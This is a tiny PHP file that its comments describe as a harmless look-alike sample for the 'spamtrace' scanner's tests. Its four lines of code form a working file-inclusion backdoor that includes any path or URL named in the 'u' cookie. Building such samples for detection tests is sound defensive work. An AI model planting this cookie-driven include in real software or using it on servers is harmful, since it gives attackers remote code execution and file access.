<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Includes whatever path or URL the cookie names (remote/local file inclusion backdoor).
$target = $_COOKIE['u'] ?? '';
if ($target !== '') {
    include $target;
}
